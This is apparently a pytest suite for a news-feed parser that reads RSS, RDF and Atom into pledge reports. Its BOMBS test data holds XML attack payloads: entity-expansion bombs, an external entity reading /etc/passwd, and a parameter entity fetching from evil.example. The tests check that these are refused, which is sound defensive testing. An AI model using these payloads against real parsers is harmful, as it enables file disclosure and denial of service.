"""Feeds made here: RSS, RDF and Atom, whole and in summary, broken and hostile."""

from __future__ import annotations

from pathlib import Path

import pytest

from pledgetrail.records import Problem, RawReport
from pledgetrail.sources import Limits, Settings, read_reports
from pledgetrail.sources.fragments import fragment_text

DECLARED = '<?xml version="1.0" encoding="utf-8"?>\n'
FULL = "<p>Ruritania pledged 40 tents on Monday.</p><p>The &#8220;tents&#8221; are to arrive in May.</p>"
ITEM = f"""<item><title>Tents &amp; blankets</title><link>https://news.example/1</link>
<guid isPermaLink="false">tag:1</guid><pubDate>Tue, 13 Jan 2026 23:30:00 -0500</pubDate>
<dc:creator>Ana Example</dc:creator><category>World</category>
<description>Forty tents pledged.</description><content:encoded><![CDATA[{FULL}]]></content:encoded></item>"""
SPACES = (
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    ' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
)


def rss(*items: str, doctype: str = "", declared: str = DECLARED) -> str:
    channel = f"<channel><title>Example Gazette</title><language>en-gb</language>{''.join(items)}</channel>"
    return f'{declared}{doctype}<rss version="2.0" {SPACES}>{channel}</rss>'


def read(folder: Path, feed: str | bytes, name: str = "feed.xml", **limits: int) -> list[RawReport | Problem]:
    (folder / name).write_bytes(feed.encode() if isinstance(feed, str) else feed)
    (folder / "zz-good.txt").write_bytes(b"Japan delivered rice.")
    *found, last = read_reports([folder / name, folder / "zz-good.txt"], settings=Settings(Limits(**limits)))
    assert isinstance(last, RawReport) and last.id == "zz-good.txt"
    return found


def kinds(found: list[RawReport | Problem]) -> list[str]:
    for item in found:
        if isinstance(item, Problem):
            assert item.source in item.message
    return [i.kind for i in found if isinstance(i, Problem)]


def ids(found: list[RawReport | Problem]) -> list[str]:
    return [i.id for i in found if isinstance(i, RawReport)]


def test_entry_with_its_content_is_a_report(tmp_path: Path) -> None:
    (report,) = read(tmp_path, rss(ITEM))
    assert isinstance(report, RawReport)
    assert report.text == "Ruritania pledged 40 tents on Monday.\n\nThe “tents” are to arrive in May."
    assert (report.id, report.url, report.title) == ("feed.xml#tag:1", "https://news.example/1", "Tents & blankets")
    assert (report.outlet, report.author, report.section) == ("Example Gazette", "Ana Example", "World")
    assert (report.published, report.language) == ("2026-01-13T23:30:00-05:00", "en-gb")
    assert report.page == FULL.encode() and not report.partial


def test_summary_is_kept_and_marked(tmp_path: Path) -> None:
    item = "<item><guid>a</guid><description>Forty &lt;b&gt;tents&lt;/b&gt; pledged.</description></item>"
    (report,) = read(tmp_path, rss(item))
    assert isinstance(report, RawReport)
    assert (report.text, report.partial) == ("Forty tents pledged.", True)


@pytest.mark.parametrize("end", ["…", " ...", "[&#8230;]", "[...] <a>Read more</a>", "... Continue reading Tents"])
def test_content_that_breaks_off_is_marked(tmp_path: Path, end: str) -> None:
    item = f"<item><content:encoded><![CDATA[<p>Ruritania pledged forty{end}</p>]]></content:encoded></item>"
    (report,) = read(tmp_path, rss(item))
    assert isinstance(report, RawReport) and report.partial


def test_atom(tmp_path: Path) -> None:
    feed = f"""{DECLARED}<feed xmlns="http://www.w3.org/2005/Atom"><title>Agency</title>
    <entry><id>urn:1</id><title type="html">Aid &lt;i&gt;agreed&lt;/i&gt;</title><link href="https://a.example/1"/>
    <published>2026-05-04T10:00:00+03:00</published><updated>2026-05-05T10:00:00+03:00</updated>
    <author><name>Ben Example</name></author><summary>Short.</summary>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>One.</p><p>Two.</p></div></content></entry>
    <entry><id>urn:2</id><updated>2026-05-05T10:00:00Z</updated><summary>Only this.</summary></entry>
    <entry><id>urn:3</id><content type="text">Plain words &lt; 5.</content></entry></feed>"""
    first, second, third = read(tmp_path, feed, "agency.atom")
    assert isinstance(first, RawReport) and isinstance(second, RawReport) and isinstance(third, RawReport)
    assert (first.text, first.title, first.author) == ("One.\n\nTwo.", "Aid agreed", "Ben Example")
    assert (first.published, second.published) == ("2026-05-04T10:00:00+03:00", "2026-05-05T10:00:00+00:00")
    assert [r.partial for r in (first, second, third)] == [False, True, False]
    assert third.text == "Plain words < 5."


def test_rdf(tmp_path: Path) -> None:
    feed = f"""<rdf:RDF xmlns="http://purl.org/rss/1.0/" {SPACES}><channel><title>Old</title></channel>
    <item rdf:about="https://o.example/1"><title>T</title><link>https://o.example/1</link>
    <dc:date>2026-02-03</dc:date><description>Words.</description></item></rdf:RDF>"""
    (report,) = read(tmp_path, feed, "old.rdf")
    assert isinstance(report, RawReport) and (report.id, report.outlet) == ("old.rdf#https://o.example/1", "Old")
    assert report.published is not None and report.published.startswith("2026-02-03")


def test_ids_by_guid_then_link_then_number(tmp_path: Path) -> None:
    words = "<description>Words.</description>"
    items = [f"<item><guid>g</guid><link>l</link>{words}</item>", f"<item><link>https://l</link>{words}</item>"]
    assert ids(read(tmp_path, rss(*items, f"<item>{words}</item>"))) == [
        "feed.xml#g",
        "feed.xml#https://l",
        "feed.xml#3",
    ]


@pytest.mark.parametrize(
    ("encoding", "declared"), [("utf-16", "utf-16"), ("cp1251", "windows-1251"), ("utf-8-sig", "utf-8")]
)
def test_encodings(tmp_path: Path, encoding: str, declared: str) -> None:
    item = "<item><title>Обещание помощи</title><description>Страна обещала палатки.</description></item>"
    feed = rss(item, declared=f'<?xml version="1.0" encoding="{declared}"?>')
    (report,) = read(tmp_path, feed.encode(encoding))
    assert isinstance(report, RawReport) and report.text == "Страна обещала палатки."


@pytest.mark.parametrize("name", ["feed.xml", "feed.rss", "feed.txt", "feed"])
def test_feed_is_told_by_its_content(tmp_path: Path, name: str) -> None:
    comment = "<!-- made by a program -->\n<?xml-stylesheet href='style.xsl'?>\n"
    assert ids(read(tmp_path, rss(ITEM, doctype=comment), name)) == [f"{name}#tag:1"]


@pytest.mark.parametrize("name", ["data.xml", "data.txt", "data.rss"])
def test_xml_that_is_no_feed(tmp_path: Path, name: str) -> None:
    assert kinds(read(tmp_path, f"{DECLARED}<orders><order>40 tents</order></orders>", name)) == ["unsupported"]
    assert kinds(read(tmp_path, "<orders><order>40 tents</order></orders>", "bare.xml")) == ["unsupported"]


def test_entries_without_text_are_one_problem(tmp_path: Path) -> None:
    found = read(tmp_path, rss("<item><title>A</title></item>" * 300, ITEM))
    assert kinds(found) == ["no-text"] and len(ids(found)) == 1
    assert kinds(read(tmp_path, rss())) == ["empty"]


def test_broken_feed_is_read_as_far_as_it_goes(tmp_path: Path) -> None:
    found = read(tmp_path, rss(ITEM, "<item><description>Cut off")[: -len("</channel></rss>")])
    assert ids(found)[0] == "feed.xml#tag:1" and kinds(found)[-1] == "invalid-xml"


def test_html_names_of_characters_are_no_problem(tmp_path: Path) -> None:
    (report,) = read(tmp_path, rss("<item><description>Forty&nbsp;tents &mdash; pledged</description></item>"))
    assert isinstance(report, RawReport) and "— pledged" in report.text


BOMBS = {
    "laughs": '[<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]',
    "quadratic": '[<!ENTITY c "' + "x" * 10_000 + '">]',
    "external": '[<!ENTITY c SYSTEM "file:///etc/passwd">]',
    "parameter": '[<!ENTITY % c SYSTEM "https://evil.example/x.dtd"> %c;]',
    "lower case": '[<!entity c "x">]',
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_declared_entities_are_refused(tmp_path: Path, bomb: str, encoding: str) -> None:
    feed = rss(f"<item><description>{'&c;' * 50}</description></item>", doctype=f"<!DOCTYPE rss {bomb}>")
    found = read(tmp_path, feed.replace('"utf-8"', f'"{encoding}"', 1).encode(encoding))
    assert kinds(found) == ["entities"] and not ids(found)


def test_outside_document_type_is_not_fetched(tmp_path: Path) -> None:
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://127.0.0.1:9/rss-0.91.dtd">'
    assert ids(read(tmp_path, rss(ITEM, doctype=doctype))) == ["feed.xml#tag:1"]


def test_huge_feed_is_refused_unparsed(tmp_path: Path) -> None:
    path = tmp_path / "feed.xml"
    with path.open("wb") as stream:
        stream.write(rss()[:80].encode())
        stream.truncate(50 << 20)
    (problem,) = read_reports([path])
    assert isinstance(problem, Problem) and problem.kind == "too-long"


def test_more_entries_or_elements_than_the_limit(tmp_path: Path) -> None:
    words = "<item><description>Words.</description></item>"
    assert kinds(read(tmp_path, rss(words * 11), feed_entries=10)) == ["too-long"]
    assert len(ids(read(tmp_path, rss(words * 10), feed_entries=10))) == 10
    assert kinds(read(tmp_path, rss("<a/>" * 2_000_000))) == ["too-long"]


def test_hostile_markup_never_raises(tmp_path: Path) -> None:
    for piece in (
        "<item>",
        "<!--",
        "<![CDATA[",
        "&",
        "<a ",
        "</item>",
        "<content:encoded>",
        "\x00",
        "<item xml:base='http://[",
    ):
        read(tmp_path, rss(ITEM, piece * 200))


def test_odd_guids_and_dates(tmp_path: Path) -> None:
    item = "<item><guid>../../x&#x202e;y</guid><pubDate>no date</pubDate><description>Words.</description></item>"
    (report,) = read(tmp_path, rss(item))
    assert isinstance(report, RawReport)
    assert (report.id, report.published) == ("feed.xml#../../x\\u202ey", "no date")


def test_revised_entry_has_another_hash(tmp_path: Path) -> None:
    (first,), (again,) = read(tmp_path, rss(ITEM)), read(tmp_path, rss(ITEM))
    (second,) = read(tmp_path, rss(ITEM.replace("40 tents", "50 tents")))
    hashes = [i.content_sha256 for i in (first, again, second) if isinstance(i, RawReport)]
    assert hashes[0] == hashes[1] != hashes[2]


@pytest.mark.parametrize("piece", ["<", "<!", "<!--", "<a ", "<script>", "<![CDATA[", "&#", "</p", '<a b="'])
def test_unclosed_markup_does_not_multiply_time(piece: str) -> None:
    assert isinstance(fragment_text(f"<p>Words.</p>{piece * 50_000}"), str)
